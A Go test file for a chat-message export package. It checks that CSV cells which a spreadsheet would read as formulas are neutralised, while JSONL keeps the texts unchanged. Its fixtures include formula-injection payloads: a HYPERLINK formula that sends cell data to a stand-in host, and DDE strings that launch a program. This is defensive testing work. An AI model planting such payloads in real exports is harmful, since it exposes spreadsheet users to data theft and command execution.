package export

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"
)

// Texts a client can send that a spreadsheet would run as formulas.
var formulas = []string{
	`=HYPERLINK("https://evil.example/?"&A2&B2,"open")`,
	"+1+cmd|' /C calc'!A0",
	"-2+3",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"\t=1+1",
	"\r=1+1",
}

// No cell of messages.csv or events.csv begins with what a spreadsheet
// reads as a formula; JSONL keeps the texts exactly.
func TestCSVNeutralisesFormulas(t *testing.T) {
	var msgs []Message
	for i, f := range append(formulas, "hello", "你好 = 好") {
		msgs = append(msgs, Message{ID: "m" + string(rune('a'+i)), Seq: uint64(i + 1), Text: f, Employee: "@alice"})
	}
	var buf bytes.Buffer
	if err := writeMessagesCSV(&buf, msgs); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), "\uFEFF"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	textCol := 10
	if messageCSVHeader[textCol] != "text" {
		t.Fatalf("column %d is %q, not text", textCol, messageCSVHeader[textCol])
	}
	for i, m := range msgs {
		row := recs[i+1]
		for j, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("row %d, %s: %q begins like a formula", i+1, messageCSVHeader[j], cell)
			}
		}
		want := m.Text
		if strings.ContainsRune("=+-@\t\r", rune(m.Text[0])) {
			want = "'" + m.Text
		}
		if row[textCol] != want {
			t.Errorf("row %d text = %q, want %q", i+1, row[textCol], want)
		}
	}

	var events bytes.Buffer
	if err := writeEventsCSV(&events, []Event{{ID: "e1", State: "failed", ErrCode: -1, ErrMsg: "=1+1"}}); err != nil {
		t.Fatal(err)
	}
	erecs, err := csv.NewReader(&events).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if got := erecs[1]; got[5] != "-1" || got[6] != "'=1+1" {
		t.Errorf("events.csv row = %q: want errcode -1 as a number and the errmsg neutralised", got)
	}

	var jsonl bytes.Buffer
	if err := writeJSONLines(&jsonl, msgs[:1]); err != nil {
		t.Fatal(err)
	}
	var back Message
	if err := json.Unmarshal(jsonl.Bytes(), &back); err != nil || back.Text != formulas[0] {
		t.Fatalf("messages.jsonl text = %q, %v; want it as sent", back.Text, err)
	}
}

func TestIsNumber(t *testing.T) {
	for s, want := range map[string]bool{"-1": true, "40001": true, "-0.5": true, "-": false, "-1e5": false, "1.": false, "-a": false, "": false} {
		if got := isNumber(s); got != want {
			t.Errorf("isNumber(%q) = %v, want %v", s, got, want)
		}
	}
}
